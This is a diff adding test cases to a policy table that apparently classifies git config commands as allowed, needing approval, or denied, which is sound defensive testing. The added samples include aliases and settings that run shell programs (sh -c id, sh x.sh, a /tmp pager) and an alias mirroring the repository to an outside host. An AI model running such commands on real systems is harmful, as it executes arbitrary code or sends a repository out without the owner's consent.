@@ -78,6 +78,24 @@ policyTable('git-config-runs-code', [
   { note: '--global core.editor', spec: `git config --global core.editor 'sh -c id'`, expect: 'deny' },
   { note: '! alias', spec: `git config alias.st '!id; git status'`, expect: 'ask' },
   { note: 'near miss: plain alias', spec: 'git config alias.st status', expect: null },
+  { note: "near miss: hooks from husky's folder", spec: 'git config core.hooksPath .husky', expect: null },
+  { note: 'hooks from another folder', spec: 'git config core.hooksPath .githooks', expect: 'ask' },
+  {
+    note: 'near miss: a ! alias that runs one plain git command',
+    spec: `git config --global alias.amend '!git commit --amend --no-edit'`,
+    expect: null,
+  },
+  {
+    note: 'a ! alias that runs git with a setting that runs a program',
+    spec: `git config --global alias.lg '!git -c core.pager=/tmp/p log'`,
+    expect: 'deny',
+  },
+  { note: 'a ! alias that chains another command', spec: `git config alias.up '!git pull && sh x.sh'`, expect: 'ask' },
+  {
+    note: 'a ! alias that mirrors the repository to another host',
+    spec: `git config --global alias.pushall '!git push --mirror https://git.example.net/acme.git'`,
+    expect: 'deny',
+  },
   { note: 'hooksPath', spec: 'git config core.hooksPath /tmp/hooks', expect: 'ask' },
   {
     note: 'credential helper, global',
